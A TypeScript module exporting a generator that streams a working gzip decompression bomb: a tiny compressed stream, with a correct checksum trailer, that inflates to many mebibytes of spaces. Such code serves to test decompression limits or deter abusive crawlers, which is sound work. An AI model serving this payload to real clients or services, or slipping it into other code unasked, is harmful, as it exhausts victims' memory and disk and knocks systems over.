import { constants, crc32, deflateRawSync } from 'node:zlib';

const MEGABYTE = 1_048_576;
const GZIP_HEADER = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255);
const LAST_BLOCK = Uint8Array.of(3, 0);

/**
 * A valid gzip stream of `megabytes` MiB of spaces, about a thousandth of that on the wire: one compressed mebibyte,
 * repeated. Never holds more than that mebibyte.
 */
export function* gzipBomb(megabytes: number): Generator<Uint8Array, void> {
  const spaces = new Uint8Array(MEGABYTE).fill(0x20);
  const block = deflateRawSync(spaces, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  yield GZIP_HEADER;
  let checksum = 0;
  for (let sent = 0; sent < megabytes; sent += 1) {
    checksum = crc32(spaces, checksum);
    yield block;
  }
  yield LAST_BLOCK;
  const trailer = new DataView(new ArrayBuffer(8));
  trailer.setUint32(0, checksum, true);
  trailer.setUint32(4, (megabytes * MEGABYTE) % 2 ** 32, true);
  yield new Uint8Array(trailer.buffer);
}
